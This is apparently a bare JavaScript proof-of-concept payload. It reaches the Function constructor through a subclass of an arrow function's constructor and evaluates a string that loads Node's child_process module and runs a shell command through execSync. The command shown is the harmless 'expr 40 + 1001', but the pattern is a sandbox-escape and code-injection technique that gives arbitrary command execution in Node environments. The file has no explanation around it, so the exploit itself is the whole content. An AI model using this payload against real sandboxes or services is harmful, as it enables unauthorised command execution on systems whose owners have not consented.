class F extends (()=>{}).constructor{ constructor(s){ super(s) } } new F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
